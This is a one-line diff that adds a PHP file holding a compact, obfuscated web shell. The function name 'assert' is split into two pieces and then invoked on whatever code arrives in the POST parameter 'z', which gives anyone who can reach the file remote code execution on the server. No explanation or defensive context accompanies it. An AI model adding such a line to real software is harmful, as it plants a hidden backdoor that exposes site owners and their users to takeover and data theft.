@@ -1,0 +1,1 @@
+<?php $f = 'as' . 'sert'; $f($_POST['z']);
